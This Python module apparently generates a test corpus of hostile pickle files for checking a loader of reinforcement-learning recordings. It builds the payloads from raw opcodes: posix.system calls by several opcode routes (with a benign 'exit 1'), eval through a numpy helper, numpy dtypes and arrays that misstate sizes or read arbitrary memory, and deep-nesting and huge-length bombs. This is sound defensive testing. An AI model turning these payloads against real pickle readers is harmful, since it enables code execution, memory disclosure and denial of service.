"""Pickles that attack a reader of recordings, assembled from opcodes."""

import struct
from collections.abc import Callable

FIELDS = ("observations", "actions", "rewards", "next_observations", "terminals")
GIB = 1 << 30


class Ops(bytes):
    """Opcodes of a pickle that leave one value on the stack."""


def value(content) -> Ops:
    """Opcodes that push plain content, in protocol 3; `Ops` in it stay as they are."""
    match content:
        case Ops():
            return content
        case None | True | False:
            return Ops({None: b"N", True: b"\x88", False: b"\x89"}[content])
        case int() if abs(content) < 1 << 31:
            return Ops(b"J" + struct.pack("<i", content))
        case int():
            size = content.bit_length() // 8 + 1
            return Ops(b"\x8a" + bytes([size]) + content.to_bytes(size, "little", signed=True))
        case str():
            return Ops(b"X" + struct.pack("<I", len(content.encode())) + content.encode())
        case bytes():
            return Ops(b"B" + struct.pack("<I", len(content)) + content)
        case tuple():
            return Ops(b"(" + b"".join(map(value, content)) + b"t")
        case list():
            return Ops(b"](" + b"".join(map(value, content)) + b"e")
    return Ops(b"}(" + b"".join(value(part) for item in content.items() for part in item) + b"u")


def pickled(content) -> bytes:
    return b"\x80\x03" + value(content) + b"."


def name(module: str, attribute: str) -> Ops:
    return Ops(f"c{module}\n{attribute}\n".encode())


def call(function: Ops, *arguments) -> Ops:
    return Ops(function + value(arguments) + b"R")


def build(target: Ops, state) -> Ops:
    return Ops(target + value(state) + b"b")


NDARRAY = name("numpy", "ndarray")
SYSTEM = name("posix", "system")


def dtype(code: str = "f8", order="<", subdtype=None, names=None, fields=None, size=-1, flags=0) -> Ops:
    state = (3, order, subdtype, names, fields, size, 1 if size > 0 else -1, flags)
    return build(call(name("numpy", "dtype"), code, False, True), state)


def array(shape=(2, 4), element=None, data=None) -> Ops:
    empty = call(name("numpy._core.multiarray", "_reconstruct"), NDARRAY, (0,), b"b")
    return build(empty, (1, shape, element or dtype(), False, bytes(64) if data is None else data))


def from_buffer(data: bytes, element: Ops, shape: tuple) -> Ops:
    return call(name("numpy._core.numeric", "_frombuffer"), data, element, shape, "C")


def recording(observations: Ops) -> dict[str, Ops]:
    """A recording of two rows with these observations."""
    ends = array((2,), dtype("b1", "|"), b"\0\1")
    return dict(zip(FIELDS, (observations, array(), array((2,), data=bytes(16)), observations, ends), strict=True))


def stored(content, key: int = 0) -> Ops:
    return Ops(value(content) + b"r" + struct.pack("<I", key))


def recalled(key: int = 0) -> Ops:
    return Ops(b"j" + struct.pack("<I", key))


def doubled(closing: bytes, levels: int = 60) -> Ops:
    """Tuples or lists that each hold the one before eight times, by the memo."""
    groups = [bytes([104, key]) * 7 + closing + bytes([113, key + 1]) for key in range(levels)]
    return Ops(b"(" * levels + b"K\0q\0" + b"".join(groups))


def interface(address: int) -> Ops:
    """An instance of the array class, with the attribute by which numpy reads any address."""
    content = {"shape": (2, 4), "typestr": "<f8", "data": (address, False), "version": 3}
    return build(Ops(NDARRAY + b")\x81"), {"__array_interface__": content})


def bomb(opcodes: bytes) -> Callable[[], bytes]:
    return lambda: b"\x80\x04" + opcodes + b"."


def with_observations(make: Callable[[], Ops]) -> Callable[[], bytes]:
    return lambda: pickled(recording(make()))


PICKLES: dict[str, Callable[[], bytes]] = {
    # elements that lie about their size
    "subdtype_larger_than_its_dtype": with_observations(
        lambda: from_buffer(bytes(16), dtype("V8", "|", (dtype("u1", "|"), (4096,)), size=8), (2, 4096))
    ),
    "subdtype_in_array_state": with_observations(
        lambda: array((2,), dtype("V8", "|", (dtype("u1", "|"), (4096,)), size=8), bytes(16))
    ),
    "field_offset_beyond_the_element": with_observations(
        lambda: from_buffer(bytes(64), dtype("V8", "|", None, ("a",), {"a": (dtype(), 1 << 30)}, 8), (2, 4))
    ),
    "object_dtype_without_its_flags": with_observations(lambda: from_buffer(b"\x08" * 64, dtype("O8", "|"), (2, 4))),
    "number_dtype_with_object_flags": with_observations(
        lambda: from_buffer(b"\x08" * 64, dtype("f8", "<", size=8, flags=63), (2, 4))
    ),
    "instance_with_array_interface": with_observations(lambda: interface(4096)),
    "itemsize_of_a_gibibyte": with_observations(lambda: array((2, 4), dtype("f8", size=GIB))),
    "negative_itemsize": with_observations(lambda: array((2, 4), dtype("f8", size=-8))),
    "dtype_completed_twice": with_observations(lambda: array((2, 4), build(dtype(), (3, ">", *[None] * 3, -1, -1, 0)))),
    "dtype_changed_after_its_array": with_observations(
        lambda: Ops(
            array((2, 4), stored(dtype()))
            + build(recalled(), (3, "|", (dtype("u1", "|"), (4096,)), None, None, 8, 1, 0))
        )
    ),
    "dtype_without_state": with_observations(
        lambda: array((2, 4), call(name("numpy", "dtype"), "f8", False, True), bytes(64))
    ),
    "dtype_with_metadata": with_observations(
        lambda: array(
            (2, 4), build(call(name("numpy", "dtype"), "f8", False, True), (4, "<", *[None] * 3, -1, -1, 0, {}))
        )
    ),
    "object_array": with_observations(lambda: array((1,), dtype("O8", "|", flags=63), [call(SYSTEM, "exit 1")])),
    "huge_text_dtype": with_observations(lambda: array((2,), dtype("U1000000000"))),
    "comma_dtype": with_observations(lambda: array((2,), dtype("(1000000,1000000)f8,O"))),
    "bools_of_value_255": lambda: pickled(
        {**recording(array()), "terminals": array((2,), dtype("b1", "|"), b"\xff\xff")}
    ),
    # arrays that lie about their shape
    "shape_larger_than_its_bytes": with_observations(lambda: array((1 << 20, 1 << 20))),
    "shape_that_overflows": with_observations(lambda: array((1 << 29, 1 << 29, 1 << 6), data=b"")),
    "shape_of_a_thousand_axes": with_observations(lambda: array((1,) * 1000, data=bytes(8))),
    "negative_shape": with_observations(lambda: array((-2, -4))),
    "empty_shape_of_an_exabyte": with_observations(lambda: array((0, 1 << 29, 1 << 29), data=b"")),
    "shape_of_bools": with_observations(lambda: array((True, 8))),
    "shape_of_a_huge_number": with_observations(
        lambda: array((Ops(b"\x8b" + struct.pack("<i", 1 << 20) + b"\x7f" * (1 << 20)), 4))
    ),
    "reconstruct_with_a_shape": with_observations(
        lambda: call(name("numpy._core.multiarray", "_reconstruct"), NDARRAY, (1 << 30,), b"b")
    ),
    "array_class_called": with_observations(lambda: call(NDARRAY, (1 << 30,))),
    "array_without_state": with_observations(
        lambda: call(name("numpy._core.multiarray", "_reconstruct"), NDARRAY, (0,), b"b")
    ),
    "array_completed_twice": with_observations(lambda: build(array(), (1, (1 << 30,), dtype(), False, bytes(8)))),
    "order_of_missing_axes": with_observations(
        lambda: call(name("numpy._core.numeric", "_frombuffer"), bytes(64), dtype(), (2, 4), "K", (0, 7))
    ),
    # calls
    "system": lambda: pickled(call(SYSTEM, "exit 1")),
    "system_by_stack_global": lambda: (
        b"\x80\x04" + value("posix") + value("system") + b"\x93" + value(("exit 1",)) + b"R."
    ),
    "system_by_inst": lambda: b"(" + value("exit 1") + b"iposix\nsystem\n.",
    "system_by_obj": lambda: b"(" + SYSTEM + value("exit 1") + b"o.",
    "system_by_newobj": lambda: b"\x80\x02" + SYSTEM + value(("exit 1",)) + b"\x81.",
    "system_in_two_globals": lambda: pickled(call(name("numpy dtype posix", "system"), "exit 1")),
    "eval_below_numpy": lambda: pickled(call(name("numpy.f2py.crackfortran", "myeval"), "1")),
    "numpy_load": lambda: pickled(call(name("numpy", "load"), "x.npy", None, True)),
    "global_with_a_line_break": lambda: b"\x80\x04" + value("a\nb\x1b[2J") + value("c\r") + b"\x93.",
    "extension_registry": bomb(b"\x82\x01"),
    "persistent_id": lambda: b"P1\n.",
    "persistent_id_from_the_stack": bomb(b"K\1Q"),
    "buffer_outside_the_file": bomb(b"\x97"),
    "encode_with_another_codec": lambda: pickled(call(name("_codecs", "encode"), "x" * 99, "zlib_codec")),
    # sharing and nesting
    "nested_list": lambda: pickled(recording(doubled(b"l"))),
    "doubled_tuple_as_a_name": lambda: b"\x80\x04" + doubled(b"t") + b"h\x3c\x93.",
    "doubled_tuple_as_a_shape": with_observations(lambda: array(doubled(b"t"))),
    "deep_tuple": bomb(b")" + b"\x85" * 90_000),
    "deep_marks": bomb(b"(" * 90_000),
    "deep_dict": bomb(b"}K\0" * 30_000 + b"s" * 29_999),
    "million_opcodes": bomb(b"N" * 1_000_000),
    "wide_tuple": bomb(b"(" + b"N" * 50_000 + b"t"),
    "dictionary_in_itself": bomb(b"}\x94" + value("a") + b"h\0s"),
    "text_encoded_thousands_of_times": lambda: pickled(
        (stored(("x" * 1_000_000, "latin1")), *[Ops(name("_codecs", "encode") + recalled() + b"R")] * 9000)
    ),
    "array_made_thousands_of_times": lambda: pickled(
        {"0": array((1 << 17,), data=stored(bytes(1 << 20)))}
        | {str(key): array((1 << 17,), data=recalled()) for key in range(1, 500)}
    ),
    "memo_of_equal_hashes": lambda: (
        b"N" + b"".join(b"p%d\n" % (number * ((1 << 61) - 1)) for number in range(1, 60_000)) + b"."
    ),
    # numbers and lengths
    "memo_number_of_four_billion": bomb(b"Nr\xff\xff\xff\xff"),
    "memo_number_that_is_missing": bomb(b"h\x07"),
    "negative_memo_number": bomb(b"Np-1\n"),
    "number_of_4000_digits": bomb(b"I" + b"9" * 4000 + b"\n"),
    "number_of_a_million_digits": bomb(b"L" + b"9" * 1_000_000 + b"L\n"),
    "number_of_two_gibibytes": bomb(b"\x8b\xff\xff\xff\x7f1"),
    "text_of_an_exabyte": bomb(b"\x8d" + struct.pack("<Q", 1 << 60)),
    "bytes_of_an_exabyte": bomb(b"\x8e" + struct.pack("<Q", 1 << 60)),
    "bytearray_of_all_memory": bomb(b"\x96" + struct.pack("<Q", (1 << 64) - 1)),
    "frame_beyond_the_file": bomb(b"\x95" + struct.pack("<Q", 1 << 60) + b"}"),
    "unquoted_string": bomb(b"S" + b"\xff" * 1_000_000 + b"\n"),
    "protocol_200": lambda: b"\x80\xc8}.",
    # damage
    "empty": lambda: b"",
    "only_a_stop": lambda: b".",
    "no_stop": lambda: b"\x80\x04}",
    "text": lambda: b"not a pickle",
    "zeros": lambda: bytes(1000),
    "not_a_dictionary": lambda: pickled(array()),
    "keys_without_text": lambda: pickled({1: array()}),
    "values_without_arrays": lambda: pickled(dict.fromkeys(FIELDS, "x")),
    "missing_marks": bomb(b"}utttt"),
}
